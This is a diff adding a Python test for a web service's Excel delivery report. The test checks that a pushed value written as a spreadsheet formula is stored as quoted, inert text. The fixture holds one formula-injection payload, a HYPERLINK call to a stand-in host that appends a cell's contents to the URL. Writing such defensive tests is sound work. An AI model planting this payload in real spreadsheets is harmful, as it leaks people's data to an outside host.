@@ -126,3 +126,21 @@ def test_the_openapi_schema_documents_the_push_endpoint(world, client_for) -> No
     schema = client_for("chen_analyst").get("/api/v1/openapi.json").json()
     assert "/api/v1/exchange/events/{dataset}" in schema["paths"]
     assert client_for("chen_analyst").get("/api/v1/docs").status_code == 200
+
+
+def test_a_pushed_formula_reaches_the_delivery_report_as_inert_text(world, medical_token, client_for) -> None:
+    """Formula injection (issue #14.4): a hostile pushed value must not become a live cell in Excel."""
+    import io
+
+    import openpyxl
+
+    hostile = '=HYPERLINK("http://evil.example/?id="&E2,"x")'
+    person = world.persons["own"].id_number
+    rows = [event(person, 1) | {"settle_date": hostile}, event(person, 2) | {"settle_date": "-5"}]
+    push(medical_token, "ms_settlement", {"period": "2026-10", "rows": rows})
+    delivery = Delivery.objects.get()
+    response = client_for("wang_county").get(f"/exchange/deliveries/{delivery.pk}/report.xlsx")
+    detail = list(openpyxl.load_workbook(io.BytesIO(response.content))["拒收明细"].iter_rows(min_row=2))
+    hostile_cell, number_cell = (r[4] for r in detail)
+    assert hostile_cell.data_type != "f" and hostile_cell.value == "'" + hostile
+    assert number_cell.value == "-5"  # text that is just a number is not quoted
